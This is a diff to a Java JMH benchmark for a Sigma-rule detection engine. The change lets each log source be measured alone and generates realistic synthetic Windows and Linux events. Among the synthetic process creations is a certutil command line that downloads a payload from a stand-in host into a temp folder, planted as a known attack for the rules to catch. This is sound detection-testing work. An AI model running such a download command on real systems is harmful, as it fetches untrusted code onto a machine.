@@ -26,6 +26,7 @@ import org.openjdk.jmh.annotations.Measurement;
 import org.openjdk.jmh.annotations.Mode;
 import org.openjdk.jmh.annotations.OperationsPerInvocation;
 import org.openjdk.jmh.annotations.OutputTimeUnit;
+import org.openjdk.jmh.annotations.Param;
 import org.openjdk.jmh.annotations.Scope;
 import org.openjdk.jmh.annotations.Setup;
 import org.openjdk.jmh.annotations.State;
@@ -39,7 +40,8 @@ import org.openjdk.jmh.infra.Blackhole;
  * the engine as it runs (each event against the rules of its log source that its fields' literals
  * leave in); {@code everyRule}
  * evaluates every detection rule on every event, as Keel did before rules were scoped, so the
- * two give the ratio in one run. One operation = one event.
+ * two give the ratio in one run. One operation = one event. The event's {@code source} names its
+ * kind, so that each log source can be measured alone.
  */
 @State(Scope.Benchmark)
 @BenchmarkMode(Mode.Throughput)
@@ -51,9 +53,13 @@ public class SigmaCorpusBenchmark {
 
     private static final int EVENTS = 2000;
 
+    /** The whole mix, or only the events of one of its log sources (the slowest one bounds the service). */
+    @Param({"mix", "sysmon_process_creation", "sysmon_other", "windows_security", "auditd", "syslog"})
+    public String events;
+
     private ActiveRules active;
     private MatchEngine engine;
-    private List<Event> events;
+    private List<Event> measured;
 
     @Setup(Level.Trial)
     public void setUp() throws IOException {
@@ -70,14 +76,19 @@ public class SigmaCorpusBenchmark {
         active = ActiveRules.of(load.rules(), ActiveRules.empty(),
                 new ActiveRules.WindowLimits(10_000, 100_000, metrics::eviction), 10, Duration.ofMinutes(1));
         engine = new MatchEngine("detect", metrics, System::currentTimeMillis);
-        events = mix(EVENTS, new Random(42));
+        List<Event> mix = mix(EVENTS * 12, new Random(42));
+        measured = mix.stream().filter(event -> events.equals("mix") || events.equals(event.source())).limit(EVENTS)
+                .toList();
         int[] raised = {0};
-        events.forEach(event -> engine.evaluate(event, active, alert -> raised[0]++));
-        System.out.printf("%d of %d events raised alerts (%d alerts)%n", countMatching(), events.size(), raised[0]);
+        measured.forEach(event -> engine.evaluate(event, active, alert -> raised[0]++));
+        long candidates = measured.stream().mapToLong(event -> active.candidatesFor(active.rules().view(event),
+                dev.keel.detect.rule.LogSource.of(event)).size()).sum();
+        System.out.printf("%s: %d of %d events raised alerts (%d alerts); %.1f candidate rules an event%n", events,
+                countMatching(), measured.size(), raised[0], candidates / (double) measured.size());
     }
 
     private long countMatching() {
-        return events.stream().filter(event -> {
+        return measured.stream().filter(event -> {
             int[] hit = {0};
             engine.evaluate(event, active, alert -> hit[0]++);
             return hit[0] > 0;
@@ -87,7 +98,7 @@ public class SigmaCorpusBenchmark {
     @Benchmark
     @OperationsPerInvocation(EVENTS)
     public void routed(Blackhole sink) {
-        for (Event event : events) {
+        for (Event event : measured) {
             engine.evaluate(event, active, sink::consume);
         }
     }
@@ -95,7 +106,7 @@ public class SigmaCorpusBenchmark {
     @Benchmark
     @OperationsPerInvocation(EVENTS)
     public void everyRule(Blackhole sink) {
-        for (Event event : events) {
+        for (Event event : measured) {
             EventView view = active.rules().view(event);
             for (ActiveDetection detection : active.detections()) {
                 try {
@@ -114,16 +125,21 @@ public class SigmaCorpusBenchmark {
             int roll = random.nextInt(100);
             Map<String, Object> attributes = new LinkedHashMap<>();
             String message;
+            String kind;
             if (roll < 25) {
                 sysmonProcess(attributes, random);
                 message = "Process Create";
+                kind = "sysmon_process_creation";
             } else if (roll < 50) {
                 sysmonOther(attributes, random);
                 message = "Sysmon event";
+                kind = "sysmon_other";
             } else if (roll < 75) {
                 security(attributes, random);
                 message = "An account was successfully logged on.";
+                kind = "windows_security";
             } else if (roll < 90) {
+                kind = "auditd";
                 attributes.put("logsource", Map.of("product", "linux", "service", "auditd"));
                 attributes.put("type", pick(random, "SYSCALL", "EXECVE", "PATH", "USER_LOGIN", "CWD"));
                 attributes.put("exe", pick(random, "/usr/bin/ls", "/usr/bin/cat", "/usr/sbin/cron", "/usr/bin/python3"));
@@ -132,6 +148,7 @@ public class SigmaCorpusBenchmark {
                 attributes.put("key", pick(random, "exec", "audit", "logins"));
                 message = "audit(" + (1700000000 + i) + ".000:" + i + "): syscall=59 success=yes";
             } else {
+                kind = "syslog";
                 attributes.put("logsource", Map.of("product", "linux", "service", "syslog"));
                 attributes.put("app_name", pick(random, "sshd", "cron", "systemd", "kernel", "sudo"));
                 message = pick(random, "Accepted publickey for deploy from 10.0.0.5 port 50022 ssh2",
@@ -139,28 +156,48 @@ public class SigmaCorpusBenchmark {
                         "eth0: link up", "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/apt update");
             }
             long now = 1_700_000_000_000L + i;
-            events.add(new Event("e-" + i, now, now, "bench", "host-" + random.nextInt(50),
+            events.add(new Event("e-" + i, now, now, kind, "host-" + random.nextInt(50),
                     "user" + random.nextInt(200), null, "10.0." + random.nextInt(256) + "." + random.nextInt(256),
                     "info", message, attributes));
         }
         return events;
     }
 
+    /** Image, command line, parent image: what a workstation runs all day. */
+    private static final String[][] PROCESSES = {
+        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
+            "C:\\Windows\\System32\\services.exe"},
+        {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
+            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"},
+        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Documents\\report.docx\"",
+            "C:\\Windows\\explorer.exe"},
+        {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
+            "C:\\Windows\\System32\\cmd.exe"},
+        {"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
+            "\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\"",
+            "C:\\Windows\\explorer.exe"},
+        {"C:\\Windows\\System32\\backgroundTaskHost.exe",
+            "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider",
+            "C:\\Windows\\System32\\svchost.exe"},
+    };
+
+    /** About 1 % of process creations are an attack the corpus knows: a download with certutil. */
     private static void sysmonProcess(Map<String, Object> attributes, Random random) {
         attributes.put("logsource", Map.of("product", "windows", "category", "process_creation", "service", "sysmon"));
-        String image = pick(random, "C:\\Windows\\System32\\svchost.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-                "C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-                "C:\\Windows\\System32\\conhost.exe", "C:\\Users\\alice\\AppData\\Local\\Programs\\code\\Code.exe");
+        String[] process = random.nextInt(100) == 0 ? new String[] {"C:\\Windows\\System32\\certutil.exe",
+            "certutil.exe -urlcache -split -f http://203.0.113.7/p.bin C:\\Users\\alice\\AppData\\Local\\Temp\\p.bin",
+            "C:\\Windows\\System32\\cmd.exe"} : PROCESSES[random.nextInt(PROCESSES.length)];
+        String image = process[0];
         attributes.put("EventID", 1);
         attributes.put("Image", image);
         attributes.put("OriginalFileName", image.substring(image.lastIndexOf('\\') + 1));
-        attributes.put("CommandLine", "\"" + image + "\" " + pick(random, "--type=renderer --lang=en-US",
-                "-k netsvcs -p", "/n /o C:\\Users\\alice\\Documents\\report.docx", "0xffffffff -ForceV1", ""));
-        attributes.put("ParentImage", pick(random, "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe",
-                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"));
-        attributes.put("ParentCommandLine", "C:\\Windows\\Explorer.EXE");
+        attributes.put("CommandLine", process[1]);
+        attributes.put("ParentImage", process[2]);
+        attributes.put("ParentCommandLine", process[2]);
         attributes.put("CurrentDirectory", "C:\\Users\\alice\\");
-        attributes.put("IntegrityLevel", pick(random, "Medium", "High", "System"));
+        attributes.put("IntegrityLevel", "Medium");
         attributes.put("User", "CORP\\alice");
         attributes.put("Hashes", "SHA256=" + Long.toHexString(random.nextLong()) + Long.toHexString(random.nextLong()));
     }
@@ -198,7 +235,7 @@ public class SigmaCorpusBenchmark {
 
     private static void security(Map<String, Object> attributes, Random random) {
         attributes.put("logsource", Map.of("product", "windows", "service", "security"));
-        attributes.put("EventID", pick(random, 4624, 4634, 4672, 4688, 4625));
+        attributes.put("EventID", pick(random, 4624, 4672, 4688, 4625, 4648));
         attributes.put("TargetUserName", "alice");
         attributes.put("SubjectUserName", "SYSTEM");
         attributes.put("LogonType", pick(random, 2, 3, 10));
